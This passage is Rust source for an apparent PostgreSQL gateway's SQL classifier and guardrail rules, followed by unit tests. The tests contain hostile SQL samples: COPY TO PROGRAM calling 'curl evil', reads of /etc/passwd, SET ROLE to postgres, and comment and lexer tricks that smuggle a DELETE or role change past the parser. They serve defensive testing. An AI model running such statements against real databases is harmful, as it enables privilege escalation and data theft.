            let server_code = matches!(
                s,
                Statement::CreateFunction(_)
                    | Statement::CreateProcedure { .. }
                    | Statement::CreateTrigger(_)
                    | Statement::CreateRule(_)
                    | Statement::CreateExtension(_)
                    | Statement::Load { .. }
                    // They bind a function to a new name (an aggregate over `set_config`, an
                    // operator over `lo_get`) that the function walk cannot recognise.
                    | Statement::CreateAggregate(_)
                    | Statement::CreateOperator(_)
                    | Statement::CreateOperatorClass(_)
                    | Statement::CreateOperatorFamily(_)
                    // A foreign server reaches what dblink reaches.
                    | Statement::CreateServer(_)
                    | Statement::CreateForeignTable(_)
                    | Statement::CreateForeignDataWrapper(_)
                    | Statement::CreateUserMapping(_)
            );
            // Reading a setting (`SHOW client_encoding`) changes nothing. `SET NAMES` is
            // `SET client_encoding`; `pg_settings` is a view whose UPDATE sets what it names.
            let changes_lexing = (names_lexing && !matches!(s, Statement::ShowVariable { .. }))
                || matches!(s, Statement::Set(Set::SetNames { .. } | Set::SetNamesDefault {}))
                || (!matches!(kind, SqlKind::Select)
                    && tables.iter().any(|t| t == "pg_settings" || t == "pg_catalog.pg_settings"));
            let reads = walk.reads || matches!(s, Statement::Copy { to: true, .. });
            let mut also: Vec<SqlKind> = walk.writes.iter().map(|&(k, _)| k).collect();
            also.sort_by_key(|k| WRITES.iter().position(|w| w == k));
            also.dedup();
            let prepares = match outer {
                Statement::Prepare { name, .. } => Some(ident_name(name)),
                _ => None,
            };
            let executes = match s {
                Statement::Execute { name: Some(name), .. } => name.0.last().and_then(|p| p.as_ident()).map(ident_name),
                _ => None,
            };
            let deallocates = match outer {
                Statement::Deallocate { name, .. }
                    if name.quote_style.is_none() && name.value.eq_ignore_ascii_case("all") =>
                {
                    Some(None)
                }
                Statement::Deallocate { name, .. } => Some(Some(ident_name(name))),
                Statement::Discard { object_type: sqlparser::ast::DiscardObject::ALL } => Some(None),
                _ => None,
            };
            let statistics = tables.iter().map(|t| last_segment(t)).find(|t| STATISTICS.contains(&t.as_str()));
            let other_sessions = walk
                .other_sessions
                .clone()
                .or_else(|| tables.iter().map(|t| last_segment(t)).find(|t| OTHER_SESSIONS.contains(&t.as_str())));
            // A whole row named by its table or alias (`SELECT p FROM patients p`,
            // `row_to_json(p)`) holds every column, and so does `COPY t TO …` without a column
            // list: unknown either way.
            // `p.to_jsonb`, where `p` is a table or alias: `to_jsonb(p)`, a whole row.
            let row_call = walk
                .row_calls
                .iter()
                .any(|q| walk.aliases.contains(q) || tables.iter().any(|t| t == q || t.ends_with(&format!(".{q}"))));
            let columns = match s {
                // A `*` anywhere (`COPY (SELECT * …)`, a view or table made of one, a subquery
                // renamed outside) hands on every column, named or not.
                _ if walk.wildcard => None,
                // COPY names its columns in its list, or all of them.
                Statement::Copy { source: CopySource::Table { columns, .. }, to, .. } => {
                    if columns.is_empty() {
                        if *to { None } else { columns_of(s) }
                    } else {
                        Some(columns.iter().map(|c| c.value.to_lowercase()).collect())
                    }
                }
                // In a query, a name that is a table or an alias there is a whole row
                // (`SELECT p FROM patients p`); so is `p.*` handed to a function.
                Statement::Query(_) if walk.whole_row || row_call => None,
                Statement::Query(_) => columns_of(s).filter(|cols| {
                    !cols.iter().any(|c| {
                        walk.aliases.contains(c) || tables.iter().any(|t| t == c || t.ends_with(&format!(".{c}")))
                    })
                }),
                _ => columns_of(s),
            };
            // A name that is a table or alias, where a column was expected, is a whole row.
            let row_named =
                |c: &String| walk.aliases.contains(c) || tables.iter().any(|t| t == c || t.ends_with(&format!(".{c}")));
            // Only an unqualified name can be one (`e.event` is a column of `event e`).
            let whole_row = walk.whole_row || walk.bare.iter().any(row_named) || row_call;
            let derived = if whole_row { None } else { Some(walk.derived) };
            SqlStatement {
                kind,
                tables,
                has_where,
                copy_program,
                copy_file,
                changes_role,
                destructive_ddl,
                columns,
                changes_lexing,
                opaque_call: walk.opaque,
                server_code,
                derived,
                misread,
                reads,
                also,
                other_sessions,
                statistics,
                prepares,
                executes,
                deallocates,
            }
        })
        .collect())
}

/// What [`classify`] said about a SQL text.
pub type Classified = Result<Vec<SqlStatement>, String>;

/// Texts remembered by [`classify_cached`]; the cache is emptied when it reaches this many.
const CACHE_ENTRIES: usize = 1024;
/// Longer texts are classified every time, not remembered.
const CACHE_MAX_SQL: usize = 2048;

static CACHE: LazyLock<Mutex<HashMap<Box<str>, Arc<Classified>>>> = LazyLock::new(Default::default);

/// [`classify`], remembering the answer for the exact text. Clients that send the same statement
/// text again and again (every execute of an extended-protocol client such as psycopg, `BEGIN`,
/// health checks) skip the parser. Keyed by the whole text, so a hit is the same SQL: nothing is
/// normalized, and a text that differs in one byte is parsed on its own.
pub fn classify_cached(sql: &str) -> Arc<Classified> {
    if sql.len() > CACHE_MAX_SQL {
        return remembered_long(sql).unwrap_or_else(|| Arc::new(classify(sql)));
    }
    if let Some(hit) = CACHE.lock().ok().and_then(|c| c.get(sql).cloned()) {
        return hit;
    }
    let classified = Arc::new(classify(sql));
    if let Ok(mut cache) = CACHE.lock() {
        if cache.len() >= CACHE_ENTRIES {
            cache.clear();
        }
        cache.insert(sql.into(), classified.clone());
    }
    classified
}

/// Long texts classified by [`classify_long`] on this thread, newest last.
type LongTexts = std::cell::RefCell<std::collections::VecDeque<(Box<str>, Arc<Classified>)>>;

thread_local! {
    static LONG: LongTexts = const { std::cell::RefCell::new(std::collections::VecDeque::new()) };
}

/// Long texts this thread remembers at once (their classifications are what the next calls for
/// the same message ask for), and their most bytes in all.
const LONG_ENTRIES: usize = 4;
const LONG_MAX_BYTES: usize = 8 << 20;

/// Classifies a text too long for the shared cache on the blocking pool, so a session runtime is
/// not held up by the parser (a PostgreSQL message may carry megabytes of SQL), and remembers the
/// answer on the calling thread, where [`classify_cached`] finds it for the same text. Texts the
/// shared cache takes, or too large to remember, are left to [`classify_cached`].
pub async fn classify_long(sql: &[u8]) {
    if sql.len() <= CACHE_MAX_SQL || sql.len() > LONG_MAX_BYTES {
        return;
    }
    // (Measured as the text the classifier reads: each invalid byte is three there.)
    let text = String::from_utf8_lossy(sql);
    if text.len() > LONG_MAX_BYTES || remembered_long(&text).is_some() {
        return;
    }
    let text: Box<str> = text.into();
    let Ok((text, classified)) = tokio::task::spawn_blocking(move || {
        let classified = Arc::new(classify(&text));
        (text, classified)
    })
    .await
    else {
        return;
    };
    LONG.with(|l| {
        let mut l = l.borrow_mut();
        l.push_back((text, classified));
        // The newest stays, whatever its size.
        while l.len() > 1 && (l.len() > LONG_ENTRIES || l.iter().map(|(t, _)| t.len()).sum::<usize>() > LONG_MAX_BYTES)
        {
            l.pop_front();
        }
    });
}

/// A long text's remembered classification on this thread; a hit becomes the newest entry, so
/// the texts one message needs stay while it is decided.
fn remembered_long(sql: &str) -> Option<Arc<Classified>> {
    LONG.with(|l| {
        let mut l = l.borrow_mut();
        let i = l.iter().position(|(t, _)| **t == *sql)?;
        let hit = l.remove(i)?;
        let classified = hit.1.clone();
        l.push_back(hit);
        Some(classified)
    })
}

/// The built-in guardrail a statement list breaks, as `(rule id, reason)`; `None` if it passes.
/// Roles marked trusted on the route skip them.
pub fn guardrail(statements: &Classified) -> Option<(&'static str, String)> {
    let statements = match statements {
        Err(e) => {
            return Some((
                "guard:unparsed",
                format!(
                    "the statement does not parse, and only trusted roles may send SQL the gateway cannot read: {e}"
                ),
            ));
        }
        Ok(s) => s,
    };
    if statements.len() > 1 {
        return Some((
            "guard:multi_statement",
            format!("{} statements in one query string; send one at a time", statements.len()),
        ));
    }
    for s in statements {
        if s.destructive_ddl {
            return Some(("guard:ddl", "DROP, TRUNCATE and ALTER are blocked for this role".into()));
        }
        if s.server_code {
            return Some((
                "guard:server_code",
                "CREATE FUNCTION, PROCEDURE, TRIGGER, RULE, EXTENSION, AGGREGATE, OPERATOR and SERVER, foreign \
                 tables and LOAD give the server code to run or new names for it, which the rules cannot see; \
                 they are blocked for this role"
                    .into(),
            ));
        }
        if !s.has_where {
            return Some(("guard:no_where", "UPDATE and DELETE need a WHERE clause".into()));
        }
        if let Some(how) = s.misread {
            return Some((
                "guard:lexing",
                format!(
                    "PostgreSQL may read this text differently from the gateway: {how}; it is blocked for this role"
                ),
            ));
        }
        if s.changes_lexing {
            return Some((
                "guard:lexing",
                "changing standard_conforming_strings or client_encoding is blocked for this role: it changes how \
                 the server reads SQL text"
                    .into(),
            ));
        }
        if let Some(f) = &s.opaque_call {
            return Some((
                "guard:opaque_call",
                format!(
                    "`{f}` runs SQL given as text, reaches the server's files or large objects, or sets a setting \
                     named at run time, which the rules cannot see; \
                     it is blocked for this role"
                ),
            ));
        }
        if let Some(what) = &s.other_sessions {
            return Some((
                "guard:other_sessions",
                format!(
                    "`{what}` reaches other callers' sessions (their statement texts, or a signal to them), which \
                     share the gateway's upstream role; it is blocked for this role"
                ),
            ));
        }
        if let Some(what) = &s.statistics {
            return Some((
                "guard:statistics",
                format!(
                    "`{what}` holds samples of the values of every analyzed column, which the rules on their tables \
                     cannot see; it is blocked for this role"
                ),
            ));
        }
        if s.changes_role {
            return Some((
                "guard:role",
                "SET ROLE, SET SESSION AUTHORIZATION and GRANT of a role change whose privileges the session runs \
                 with; they are \
                 blocked for this role"
                    .into(),
            ));
        }
        if s.copy_file {
            return Some((
                "guard:copy_file",
                "COPY … TO/FROM a file reaches the server's files, which the rules cannot see; it is blocked for this \
                 role"
                    .into(),
            ));
        }
        if s.copy_program {
            return Some((
                "guard:copy_program",
                "COPY … TO/FROM PROGRAM runs a program on the server and is blocked".into(),
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_cache_answers_exactly_what_classify_answers_for_the_same_text() {
        let texts = [
            "SELECT a FROM cache_t1 WHERE id = 1",
            "SELECT a FROM cache_t1 WHERE id = 2",
            "SELECT a FROM cache_t2 WHERE id = 1",
            "DELETE FROM cache_t1",
            "SELECT 'x'; DROP TABLE cache_t1",
            "SELEC broken",
        ];
        for t in texts {
            let first = classify_cached(t);
            assert_eq!(*first, classify(t), "{t}");
            let again = classify_cached(t);
            assert!(Arc::ptr_eq(&first, &again), "a repeated text is answered from the cache: {t}");
        }
        // Texts that differ anywhere are answered on their own.
        assert_eq!(classify_cached(texts[2]).as_ref().as_ref().unwrap()[0].tables, ["cache_t2"]);
        assert_eq!(guardrail(&classify_cached(texts[4])).unwrap().0, "guard:multi_statement");
        // A long text is classified every time rather than remembered.
        let long = format!("SELECT a FROM cache_t3 WHERE b = '{}'", "y".repeat(CACHE_MAX_SQL));
        assert!(!Arc::ptr_eq(&classify_cached(&long), &classify_cached(&long)));
        assert_eq!(*classify_cached(&long), classify(&long));
    }

    #[test]
    fn code_the_server_runs_later_is_ddl_and_blocked() {
        for sql in [
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE patients $$",
            "CREATE OR REPLACE FUNCTION f() RETURNS void AS 'DELETE FROM patients' LANGUAGE sql",
            "CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()",
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM patients",
            "CREATE EXTENSION dblink",
        ] {
            let c = classify(sql);
            assert_eq!(c.as_ref().map(|s| s[0].kind), Ok(SqlKind::Ddl), "{sql}");
            assert_eq!(guardrail(&c).map(|g| g.0), Some("guard:server_code"), "{sql}");
        }
        // What the parser cannot read is refused anyway; calling existing code is a call.
        for sql in ["DO $$BEGIN EXECUTE 'DROP TABLE patients'; END$$", "CREATE PROCEDURE p() LANGUAGE sql AS $$ x $$"] {
            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some("guard:unparsed"), "{sql}");
        }
        assert_eq!(classify("CALL p()").map(|s| s[0].kind), Ok(SqlKind::Call));
        assert_eq!(guardrail(&classify("CREATE VIEW v AS SELECT 1")), None);
    }

    #[test]
    fn a_write_inside_a_query_or_copy_is_judged_as_a_write() {
        for (sql, kind, rule) in [
            ("WITH x AS (SELECT 1) DELETE FROM patients", SqlKind::Delete, Some("guard:no_where")),
            ("WITH d AS (DELETE FROM patients RETURNING *) SELECT * FROM d", SqlKind::Delete, Some("guard:no_where")),
            ("COPY (DELETE FROM patients RETURNING *) TO STDOUT", SqlKind::Delete, Some("guard:no_where")),
            ("WITH u AS (UPDATE t SET x = 1 RETURNING *) SELECT 1", SqlKind::Update, Some("guard:no_where")),
            (
                "CREATE TABLE c AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                SqlKind::Ddl,
                Some("guard:no_where"),
            ),
            ("WITH d AS (DELETE FROM patients WHERE id = 1 RETURNING *) SELECT * FROM d", SqlKind::Delete, None),
            ("WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", SqlKind::Insert, None),
            ("WITH x AS (SELECT 1) SELECT * FROM x", SqlKind::Select, None),
        ] {
            let c = classify(sql);
            assert_eq!(c.as_ref().map(|s| s[0].kind), Ok(kind), "{sql}");
            assert_eq!(guardrail(&c).map(|g| g.0), rule, "{sql}");
        }
    }

    #[test]
    fn a_star_at_any_depth_makes_the_columns_unknown() {
        for sql in [
            "COPY (SELECT * FROM patients) TO STDOUT",
            "CREATE VIEW v AS SELECT * FROM patients",
            "CREATE TABLE c AS SELECT * FROM patients",
            "DECLARE c CURSOR FOR SELECT * FROM patients",
            "SELECT s FROM (SELECT * FROM patients) t(id, s)",
            "INSERT INTO t SELECT * FROM patients",
        ] {
            assert_eq!(classify(sql).unwrap()[0].columns, None, "{sql}");
        }
        assert_eq!(classify("SELECT count(*) FROM patients").unwrap()[0].columns, Some(vec![]));
    }

    #[test]
    fn every_statement_names_the_tables_it_touches() {
        for sql in [
            "COPY secrets TO STDOUT",
            "COPY secrets (x) TO STDOUT",
            "COPY public.secrets FROM STDIN",
            "DROP TABLE secrets",
            "DROP VIEW IF EXISTS other, secrets",
            "GRANT SELECT ON secrets TO bob",
            "REVOKE ALL ON TABLE secrets FROM bob",
            "COMMENT ON TABLE secrets IS 'x'",
            "TRUNCATE secrets",
            "LOCK TABLE secrets",
            "DROP TRIGGER audit ON secrets",
            "DROP POLICY p ON secrets",
        ] {
            let c = classify(sql).unwrap();
            assert!(c[0].tables.iter().any(|t| t == "secrets"), "{sql}: {:?}", c[0].tables);
        }
    }

    #[test]
    fn server_files_libraries_roles_and_every_alter_are_blocked() {
        for (sql, rule) in [
            ("COPY t TO '/tmp/x'", "guard:copy_file"),
            ("COPY t FROM '/etc/passwd'", "guard:copy_file"),
            ("SET ROLE postgres", "guard:role"),
            ("SET LOCAL ROLE postgres", "guard:role"),
            ("SET SESSION AUTHORIZATION postgres", "guard:role"),
            ("SET role = 'postgres'", "guard:role"),
            ("SELECT set_config('role', 'postgres', false)", "guard:opaque_call"),
            ("SELECT set_config('ROLE', 'postgres', false)", "guard:opaque_call"),
            ("SELECT set_config('standard_conforming_strings', 'off', false)", "guard:lexing"),
            ("SELECT set_config(concat('ro', 'le'), 'postgres', false)", "guard:opaque_call"),
            ("SELECT lo_get(16401)", "guard:opaque_call"),
            ("LOAD 'plpgsql'", "guard:server_code"),
            ("DROP TRIGGER audit ON patients", "guard:ddl"),
            ("DROP FUNCTION f()", "guard:ddl"),
            ("DROP POLICY p ON patients", "guard:ddl"),
            (
                "CREATE AGGREGATE a(text, boolean) (SFUNC = set_config, STYPE = text, INITCOND = 'role')",
                "guard:server_code",
            ),
            ("CREATE OPERATOR ### (RIGHTARG = oid, FUNCTION = lo_get)", "guard:server_code"),
            ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "guard:server_code"),
            ("ALTER FUNCTION f() SECURITY DEFINER", "guard:ddl"),
            ("ALTER VIEW v RENAME TO w", "guard:ddl"),
            ("ALTER ROLE bob SUPERUSER", "guard:ddl"),
            ("ALTER SCHEMA s OWNER TO bob", "guard:ddl"),
        ] {
            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some(rule), "{sql}");
        }
        assert_eq!(guardrail(&classify("COPY t TO STDOUT")), None);
        // What pg_dump, vacuumdb and plain-text dumps run on connecting.
        assert_eq!(guardrail(&classify("SELECT pg_catalog.set_config('search_path', '', false)")), None);
        assert_eq!(classify("ALTER VIEW v RENAME TO w").map(|s| s[0].kind), Ok(SqlKind::Ddl));
    }

    #[test]
    fn kinds_tables_and_guardrails() {
        let s = classify("SELECT p.name FROM public.patients p JOIN visits v ON v.pid = p.id").unwrap();
        assert_eq!(s[0].kind, SqlKind::Select);
        assert_eq!(s[0].tables, ["public.patients", "patients", "visits"]);
        assert_eq!(guardrail(&Ok(s)), None);
        assert_eq!(guardrail(&classify("DELETE FROM patients")).unwrap().0, "guard:no_where");
        assert_eq!(guardrail(&classify("DELETE FROM patients WHERE id = 1")), None);
        assert_eq!(guardrail(&classify("UPDATE patients SET name = 'x'")).unwrap().0, "guard:no_where");
        assert_eq!(guardrail(&classify("DROP TABLE patients")).unwrap().0, "guard:ddl");
        assert_eq!(guardrail(&classify("TRUNCATE patients")).unwrap().0, "guard:ddl");
        assert_eq!(guardrail(&classify("ALTER TABLE patients ADD COLUMN x int")).unwrap().0, "guard:ddl");
        assert_eq!(guardrail(&classify("COPY patients TO PROGRAM 'curl evil'")).unwrap().0, "guard:copy_program");
        assert_eq!(guardrail(&classify("SELECT 1; SELECT 2")).unwrap().0, "guard:multi_statement");
        assert_eq!(guardrail(&classify("SELEC 1")).unwrap().0, "guard:unparsed");
        assert_eq!(classify("INSERT INTO t VALUES (1)").unwrap()[0].kind, SqlKind::Insert);
        assert_eq!(classify("BEGIN").unwrap()[0].kind, SqlKind::Transaction);
        assert_eq!(classify("CREATE TABLE t (x int)").unwrap()[0].kind, SqlKind::Ddl);
        assert_eq!(classify("GRANT SELECT ON t TO bob").unwrap()[0].kind, SqlKind::Dcl);
        assert_eq!(classify("COPY t FROM STDIN").unwrap()[0].kind, SqlKind::Copy);
        assert_eq!(classify("SET search_path = x").unwrap()[0].kind, SqlKind::Set);
    }

    #[test]
    fn explain_and_prepare_are_judged_by_the_statement_they_carry() {
        assert_eq!(guardrail(&classify("EXPLAIN ANALYZE DELETE FROM patients")).unwrap().0, "guard:no_where");
        assert_eq!(guardrail(&classify("PREPARE p AS DELETE FROM patients")).unwrap().0, "guard:no_where");
        let s = classify("EXPLAIN ANALYZE DELETE FROM patients WHERE id = 1").unwrap();
        assert_eq!((s[0].kind, s[0].tables.clone()), (SqlKind::Delete, vec!["patients".to_owned()]));
        let s = classify("PREPARE q (int) AS SELECT name FROM patients WHERE id = $1").unwrap();
        assert_eq!((s[0].kind, s[0].tables.clone()), (SqlKind::Select, vec!["patients".to_owned()]));
        assert_eq!(s[0].columns, Some(vec!["name".into(), "id".into()]));
        assert_eq!(classify("EXPLAIN SELECT 1").unwrap()[0].kind, SqlKind::Select);
    }

    #[test]
    fn tables_are_named_as_rules_name_them_and_whole_rows_are_unknown_columns() {
        let t = |sql: &str| classify(sql).unwrap()[0].tables.clone();
        assert_eq!(t("select x from public.secrets"), ["public.secrets", "secrets"]);
        assert_eq!(t("select x from \"Secrets\""), ["secrets"]);
        assert_eq!(t("select x from (table patients) s(x)"), ["patients"]);
        let cols = |sql: &str| classify(sql).unwrap()[0].columns.clone();
        assert_eq!(cols("select p from patients p"), None);
        assert_eq!(cols("select row_to_json(p) from patients p"), None);
        assert_eq!(cols("select patients from patients"), None);
        assert_eq!(cols("copy patients to stdout"), None);
        assert_eq!(cols("copy patients (ssn) to stdout"), Some(vec!["ssn".into()]));
        assert_eq!(cols("select json_agg(p.*) from patients p"), None);
        // Ordinary statements whose columns share a name with their table stay known.
        assert_eq!(cols("update note set note = 'x' where id = 1"), Some(vec!["note".into(), "id".into()]));
        assert!(guardrail(&classify("select * from ts_stat('select to_tsvector(ssn) from patients')")).is_some());
        assert_eq!(cols("select p.name from patients p"), Some(vec!["name".into()]));
        for sql in [
            "select query_to_xml('select * from secrets', true, true, '')",
            "select * from dblink('dbname=x', 'select 1') as t(a int)",
            "select pg_catalog.pg_read_file('/etc/passwd')",
        ] {
            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some("guard:opaque_call"), "{sql}");
        }
    }

    #[test]
    fn settings_that_change_how_the_server_reads_sql_are_refused() {
        for sql in [
            "SET standard_conforming_strings = off",
            "SET SESSION Client_Encoding TO 'SJIS'",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "RESET client_encoding",
        ] {
            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some("guard:lexing"), "{sql}");
        }
        assert_eq!(guardrail(&classify("SHOW client_encoding")), None);
        assert_eq!(guardrail(&classify("SET search_path = app")), None);
    }

    #[test]
    fn columns_returned_other_than_as_themselves_are_derived() {
        let derived = |sql: &str| classify(sql).unwrap()[0].derived.clone();
        let none: Vec<String> = vec![];
        assert_eq!(
            derived("select name, p.ssn as s, (dob) from patients p where lower(name) = 'x'"),
            Some(none.clone())
        );
        assert_eq!(derived("select * from patients order by upper(name)"), Some(none.clone()));
        assert_eq!(derived("select n from (select name as n from patients) t"), Some(none.clone()));
        assert_eq!(derived("select count(*), max(id) from patients"), Some(vec!["id".into()]));
        assert_eq!(derived("select name || '' as n from patients"), Some(vec!["name".into()]));
        assert_eq!(derived("select replace(p.ssn, '-', '') from patients p"), Some(vec!["ssn".into()]));
        assert_eq!(
            derived("select * from (select to_char(dob, 'YYYYMMDD') d from patients) t"),
            Some(vec!["dob".into()])
        );
        assert_eq!(derived("select (select name from patients limit 1)"), Some(vec!["name".into()]));
        assert_eq!(derived("select name from patients union all select 'x'"), Some(vec!["name".into()]));
        // PostgreSQL names the source of a plain RETURNING column, as of a SELECT's.
        assert_eq!(derived("delete from patients where id = 1 returning ssn, p.name"), Some(none.clone()));
        assert_eq!(derived("update patients set id = 2 where id = 1 returning upper(name)"), Some(vec!["name".into()]));
        // A qualified name is a column even where it shares its table's name.
        assert_eq!(derived("select e.event from event e"), Some(none.clone()));
        // Values computed in FROM have no source column.
        assert_eq!(derived("select n from unnest(array(select name from patients)) u(n)"), Some(vec!["name".into()]));
        assert_eq!(
            derived("select n from (values ((select ssn from patients limit 1))) v(n)"),
            Some(vec!["ssn".into()])
        );
        for sql in [
            "select p from patients p",
            "select row_to_json(p) from patients p",
            "select json_agg(p.*) from patients p",
            "select x from (select p as x from patients p) t",
        ] {
            assert_eq!(derived(sql), None, "{sql}");
        }
    }

    #[test]
    fn columns_where_they_can_be_known() {
        let cols = |sql: &str| classify(sql).unwrap()[0].columns.clone();
        assert_eq!(
            cols("SELECT p.name, dob FROM patients p WHERE p.ssn = '1'"),
            Some(vec!["name".into(), "dob".into(), "ssn".into()])
        );
        assert_eq!(cols("SELECT * FROM patients"), None);
        assert_eq!(cols("SELECT p.* FROM patients p"), None);
        assert_eq!(cols("INSERT INTO patients (name, ssn) VALUES ('a', 'b')"), Some(vec!["name".into(), "ssn".into()]));
        assert_eq!(cols("INSERT INTO patients VALUES ('a', 'b')"), None);
        assert_eq!(cols("UPDATE patients SET ssn = NULL WHERE id = 7"), Some(vec!["ssn".into(), "id".into()]));
        assert_eq!(cols("SELECT count(*) FROM patients"), Some(vec![]));
    }

    #[test]
    fn names_the_parser_does_not_decode_leave_the_tables_unknown() {
        for sql in [
            r#"SELECT U&"query\005fto_xml"('SELECT * FROM secrets', true, false, '')"#,
            r#"SELECT U&"\0073sn" FROM patients"#,
            r#"select u&"set\005fconfig"('role', 'dba', false)"#,
        ] {
            let c = classify(sql);
            assert_eq!(guardrail(&c).map(|g| g.0), Some("guard:lexing"), "{sql}");
            assert!(matches!(c.unwrap()[0].request(), Request::Sql { tables: None, .. }), "{sql}");
        }
        // An operator between a column and a quoted name, and escapes in a string, are not it.
        for sql in [r#"SELECT u & "mask" FROM t"#, r"SELECT U&'d\0061t\+000061' FROM t", "SELECT '&\"' FROM t"] {
            let c = classify(sql);
            assert_eq!(guardrail(&c), None, "{sql}");
            assert!(matches!(&c.unwrap()[0].request(), Request::Sql { tables: Some(t), .. } if t == &["t"]), "{sql}");
        }
        // Where the two scanners part: what the parser would judge is not what runs.
        let mut parsed = 0;
        for sql in [
            "SELECT 1 #/* ' */ 1, ssn FROM secrets --'",
            "SELECT 1 #/* ' */ 1; DELETE FROM patients --'",
            "SELECT $€$, '$€$; SET ROLE admin; --', 1",
            "SELECT 1 #--'\n 1; DELETE FROM patients; --'",
            "SELECT 1 ~--'\n; DELETE FROM patients; --'",
            "SELECT $1a$ x $1a$",
        ] {
            // (One the parser cannot read at all is refused as unparsed; the rest parse as
            // something harmless, which is the point.)
            let c = classify(sql);
            let guard = guardrail(&c).map(|g| g.0);
            if let Ok(statements) = c {
                parsed += 1;
                assert_eq!(guard, Some("guard:lexing"), "{sql}");
                assert!(statements.iter().all(|s| matches!(s.request(), Request::Sql { tables: None, .. })), "{sql}");
            } else {
                assert_eq!(guard, Some("guard:unparsed"), "{sql}");
            }
        }
        assert!(parsed >= 4, "{parsed}");
        for sql in [
            "SELECT 1 -- a comment",
            "SELECT 1 --",
            "SELECT a /**/ FROM t",
            "SELECT 1 /* c */ + 2",
            "SELECT $1, $22 FROM t",
            "SELECT $tag$ it's -- fine /* here */ $tag$",
            "SELECT 'a--b', '/*' FROM t",
            "SELECT a - -1 FROM t",
        ] {
            assert_eq!(guardrail(&classify(sql)), None, "{sql}");
        }
        // A function that runs SQL from text hides its tables as well.
        let c = classify("SELECT query_to_xml('select * from secrets', true, false, '')").unwrap();
        assert!(matches!(c[0].request(), Request::Sql { tables: None, .. }));
    }

    #[test]
    fn every_way_to_change_how_the_server_reads_text_is_refused() {
        for sql in [
            "SET NAMES 'SJIS'",
            "SET NAMES DEFAULT",
            "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_'||'conforming_strings'",
            "update pg_catalog.pg_settings set setting = 'SJIS' where name = 'client_encoding'",
        ] {
            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some("guard:lexing"), "{sql}");
        }
        assert_eq!(guardrail(&classify("SELECT name, setting FROM pg_settings")), None);
    }

    #[test]
    fn a_statement_that_reads_rows_is_judged_as_a_select_too() {
        let requests = |sql: &str| {
            classify(sql).unwrap()[0]
                .requests()
                .into_iter()
                .map(|r| match r {
                    Request::Sql { kind, tables, .. } => (kind, tables.unwrap_or_default()),
                    other => panic!("{other:?}"),
                })
                .collect::<Vec<_>>()
        };
        let select = |t: &[&str]| (SqlKind::Select, t.iter().map(|t| (*t).to_owned()).collect::<Vec<_>>());
        assert_eq!(requests("DECLARE c CURSOR FOR SELECT a FROM patients"), [select(&["patients"])]);
        let ctas = requests("CREATE TABLE x AS SELECT * FROM patients");
        assert_eq!(ctas.len(), 2, "{ctas:?}");
        assert_eq!(ctas[0].0, SqlKind::Ddl);
        assert_eq!(ctas[1], select(&["x", "patients"]));
        assert_eq!(requests("INSERT INTO log SELECT name FROM patients")[1], select(&["log", "patients"]));
        assert_eq!(requests("COPY patients TO STDOUT")[1], select(&["patients"]));
        assert_eq!(requests("COPY (SELECT ssn FROM patients) TO STDOUT")[1], select(&["patients"]));
        assert_eq!(requests("UPDATE t SET a = 1 WHERE id IN (SELECT id FROM patients)").len(), 2);
        // Writing values reads nothing.
        assert_eq!(requests("INSERT INTO log VALUES (1), (2)").len(), 1);
        assert_eq!(requests("UPDATE t SET a = 1 WHERE id = 2").len(), 1);
        assert_eq!(requests("COPY log FROM STDIN").len(), 1);
    }

    #[test]
    fn other_callers_sessions_are_out_of_reach() {
        for (sql, what) in [
            ("SELECT query FROM pg_stat_activity", "pg_stat_activity"),
            ("SELECT query FROM pg_catalog.pg_stat_activity", "pg_stat_activity"),
            ("SELECT * FROM pg_stat_get_activity(NULL)", "pg_stat_get_activity"),
            ("SELECT query FROM pg_stat_statements", "pg_stat_statements"),
            ("SELECT pg_terminate_backend(1234)", "pg_terminate_backend"),
            ("SELECT pg_cancel_backend(pid) FROM pg_locks", "pg_cancel_backend"),
        ] {
            let g = guardrail(&classify(sql));
            assert_eq!(g.as_ref().map(|g| g.0), Some("guard:other_sessions"), "{sql}");
            assert!(g.unwrap().1.contains(what), "{sql}");
        }
        assert_eq!(guardrail(&classify("SELECT pg_backend_pid()")), None);
    }

    #[test]
    fn functions_in_attribute_form_and_renamed_rows_are_seen() {
        // `(x).f` is `f(x)`.
        for (sql, guard) in [
            ("SELECT ($q$SELECT ssn FROM secrets$q$::text).ts_stat", "guard:opaque_call"),
            ("SELECT ('/etc/passwd'::text).pg_read_file", "guard:opaque_call"),
            ("SELECT (16401::oid).lo_get", "guard:opaque_call"),
            ("SELECT (1234).pg_terminate_backend", "guard:other_sessions"),
        ] {
            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some(guard), "{sql}");
        }
        let cols = |sql: &str| classify(sql).unwrap()[0].columns.clone();
        let derived = |sql: &str| classify(sql).unwrap()[0].derived.clone();
        // Whole rows, however asked for: columns unknown, no source column to follow.
        for sql in [
            "SELECT p.to_jsonb FROM patients p",
            "SELECT (p.*)::text FROM patients p",
            "SELECT id FROM t UNION TABLE patients",
            "SELECT x FROM patients p(id, name, x)",
        ] {
            assert_eq!(cols(sql), None, "{sql}");
        }
        assert_eq!(derived("SELECT p.to_jsonb FROM patients p"), None);
        assert_eq!(cols("SELECT p.varchar FROM patients p"), None);
        // A plain qualified column is still a column, and columns named where they are made are
        // known.
        assert_eq!(cols("SELECT p.name FROM patients p"), Some(vec!["name".to_owned()]));
        assert_eq!(cols("SELECT v.id FROM (VALUES (1, 'a')) AS v(id, name)"), Some(vec!["id".to_owned()]));
    }

    #[test]
    fn statistics_merges_upserts_and_role_grants_are_judged_for_what_they_do() {
        for sql in [
            "SELECT most_common_vals FROM pg_stats WHERE tablename = 'secrets' AND attname = 'ssn'",
            "SELECT * FROM pg_catalog.pg_statistic",
        ] {
